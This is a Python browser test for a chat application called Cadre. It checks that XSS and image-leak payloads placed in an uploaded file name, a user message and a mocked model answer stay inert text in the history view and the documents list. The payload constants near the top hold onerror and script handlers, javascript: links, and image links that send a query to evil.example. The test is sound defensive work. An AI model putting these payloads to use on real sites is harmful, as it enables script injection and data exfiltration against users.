"""Script and image payloads stay inert when a thread is opened again (the history view) and
in the documents list, in a real Chromium.

A chat is made over the socket as a person would: a file whose *name* carries the payloads,
a message that carries them, a model answer that repeats them, the documents list. Then the
browser opens that thread from its URL and lists the documents live. The payloads must show
as text; no script may run (inline handlers, `<script>`, `javascript:` links), no image from
another host may be in the page, and the page may not reach any other host.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.models.openai_server import FakeOpenAI, fake_openai, text
from tests.support.browser import HAS_CHROMIUM, NO_CHROMIUM, ask, browser_page, log_in
from tests.support.chainlit_client import ChainlitClient, dumps
from tests.support.server import RunningServer, cadre_server

if HAS_CHROMIUM:
    from playwright.sync_api import Page, expect

pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.skipif(not HAS_CHROMIUM, reason=NO_CHROMIUM),
]

# `https:evil.example` is https://evil.example/ to a browser on Cadre's http:// page (a
# scheme other than the page's makes it absolute), and a file name cannot hold "/".
SCRIPTS = (
    "<img src=x onerror=\"document.title='XSS'\"> <svg onload=\"document.title='XSS'\"></svg>"
    " <script>document.title='XSS'</script> [click me](javascript:document.title='XSS')"
)
IMAGES = "![leak](https:evil.example?q=secret) ![ref][1]\n\n[1]: https:evil.example?q=ref"
FILE_NAME = (
    "plan ![leak](https:evil.example?q=name) <img src=x onerror=\"document.title='XSS'\">.md"
)
MARK = "Payload-7713"

PAGE_CHECK = """() => {
  const own = (src) => src.startsWith(location.origin) || /^(data|blob):/.test(src);
  return {
    handlers: document.querySelectorAll('[onerror],[onload],[onclick],[onmouseover]').length,
    scripts: [...document.querySelectorAll('script')].filter(s => !own(s.src || location.origin)
      || s.textContent.includes('XSS')).length,
    // A person's own message is theirs to write; the page's policy keeps its images from
    // loading (the browser_page fixture sees no request leave). Everything else is Cadre's.
    foreignImages: [...document.images]
      .filter(i => !i.closest('[data-step-type="user_message"]'))
      .map(i => i.src).filter(src => src && !own(src)),
    jsLinks: [...document.querySelectorAll('a[href]')]
      .filter(a => a.href.trim().toLowerCase().startsWith('javascript:')).length,
    title: document.title,
    flag: window.__cadre_xss === undefined ? null : String(window.__cadre_xss),
  };
}"""


@pytest.fixture(scope="module")
def remote() -> Iterator[FakeOpenAI]:
    with fake_openai() as running:
        yield running


@pytest.fixture(scope="module")
def server(remote: FakeOpenAI, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    with cadre_server(
        tmp_path_factory.mktemp("data"),
        CADRE_OPENAI_BASE_URL=remote.url,
        CADRE_CHAT_MODEL="openai:test-model",
    ) as running:
        yield running


async def _make_thread(server: RunningServer, remote: FakeOpenAI, folder: Path) -> str:
    """A thread holding the payloads in a file name, a message, an answer and the list."""
    chat = ChainlitClient(server.url)
    await chat.connect()
    try:
        upload = folder / FILE_NAME
        upload.write_text(f"# Plan\n\n{MARK} The plan is due on Friday.\n")
        read = await chat.ask_with_files("", [await chat.upload(upload, "text/markdown")])
        outputs = [str(s.get("output")) for s in chat.messages(read).values()]
        assert any(s.get("name") == "Read 1 of 1 file" for s in chat.messages(read).values()), (
            outputs
        )
        # The model repeats the payloads (as an injected document could make it do); spare
        # replies cover a turn that asks it more than once.
        remote.replies += [text(f"{MARK} answer {SCRIPTS} {IMAGES}") for _ in range(4)]
        events = await chat.ask(f"{MARK} question {SCRIPTS} {IMAGES}")
        assert any(MARK in answer for answer in chat.answers(events)), dumps(events)
        await chat.ask("/documents")
        threads = {s.get("threadId") for s in chat.messages(events).values() if s.get("threadId")}
        [thread_id] = threads
        return str(thread_id)
    finally:
        await chat.close()


def _assert_inert(page: Page, dialogs: list[str]) -> dict[str, Any]:
    found: dict[str, Any] = page.evaluate(PAGE_CHECK)
    assert found["handlers"] == 0, found
    assert found["scripts"] == 0, found
    assert found["foreignImages"] == [], found
    assert found["jsLinks"] == 0, found
    assert found["title"] != "XSS", found
    assert dialogs == []
    return found


def test_payloads_stay_text_when_a_thread_is_opened_again_and_in_the_documents_list(
    server: RunningServer, remote: FakeOpenAI, tmp_path: Path
) -> None:
    thread_id = asyncio.run(_make_thread(server, remote, tmp_path))
    with browser_page(server) as page:  # fails the test if the page reaches another host
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        refused: list[str] = []
        page.on(
            "console",
            lambda message: refused.append(message.text) if "Refused" in message.text else None,
        )
        log_in(page, server)

        # The history view: the stored thread, rendered from the database.
        page.goto(f"{server.url}/thread/{thread_id}")
        expect(page.get_by_text(f"{MARK} question", exact=False).first).to_be_visible(
            timeout=60_000
        )
        expect(page.get_by_text(f"{MARK} answer", exact=False).first).to_be_visible()
        body = page.locator("body").inner_text()
        assert "onerror=" in body  # the payloads are shown as the text they are
        assert "plan" in body
        assert "Your documents" in body
        _assert_inert(page, dialogs)

        # The documents list, live: the hostile file name is a name, not markup.
        page.goto(server.url)
        # A new chat is ready (socket connected, composer settled) once its starters show.
        expect(page.get_by_text("Plan my week")).to_be_visible(timeout=30_000)
        ask(page, "/documents")
        listing = page.locator(".step, [data-step-type]").filter(has_text="Your documents").last
        expect(listing).to_be_visible(timeout=60_000)
        expect(listing).to_contain_text("onerror=")
        _assert_inert(page, dialogs)
        page.wait_for_timeout(500)  # let any late load or handler fire before judging
        _assert_inert(page, dialogs)
        # Only the person's own message met the page's policy; nothing Cadre wrote did.
        assert not [line for line in refused if "q=name" in line], refused
